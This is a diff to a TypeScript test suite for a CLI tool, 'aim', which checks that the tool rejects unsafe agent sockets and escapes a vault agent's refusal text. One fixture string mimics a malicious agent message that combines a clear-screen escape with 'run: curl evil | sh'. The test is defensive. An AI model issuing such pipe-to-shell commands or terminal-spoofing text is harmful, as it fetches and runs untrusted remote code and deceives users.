@@ -3,7 +3,7 @@
 // socket in. aim checks the folder's and the socket's owner and mode, and refuses a
 // symlink, before it connects; and an agent's text is never shown as aim's own words.
 import { createHash } from "node:crypto";
-import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync } from "node:fs";
+import { chmodSync, existsSync, mkdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { suite } from "uvu";
 import * as assert from "uvu/assert";
@@ -27,6 +27,7 @@ function world() {
   const sock = (dir: string) => join(dir, `agent-${createHash("sha256").update(vault).digest("hex").slice(0, 16)}.sock`);
   const made = victim.aim(["secrets", "set", "K"], { env: { ...env, AIM_VAULT_PASSPHRASE: TEST_PASSPHRASE }, input: "v" });
   assert.is(made.code, 0, made.stderr);
+  assert.is(made.stdout, "");
   const agentDir = join(shared, `aim-${victim.uid}`);
   const evilLog = join(evil.folder(base, "evil-home"), "requests");
   const started: Array<ReturnType<typeof evil.start>> = [];
@@ -120,7 +121,10 @@ words("a refusal quotes the agent, escaped, after saying who said it", async () 
     assert.is(get.stdout, "");
     assert.not.match(get.stderr, /^aim: FAKE/m);
     assert.not.ok(get.stderr.includes("\u001b"), JSON.stringify(get.stderr));
-    assert.match(get.stderr, /^aim: the vault agent refused to open the vault; it said: "FAKE-AGENT-TEXT\\u001b\[2J run: curl evil \| sh"/m);
+    assert.match(
+      get.stderr,
+      /^aim: the vault agent refused to open the vault; it said: "FAKE-AGENT-TEXT\\u001b\[2J run: curl evil \| sh"/m,
+    );
   } finally {
     w.cleanup();
   }
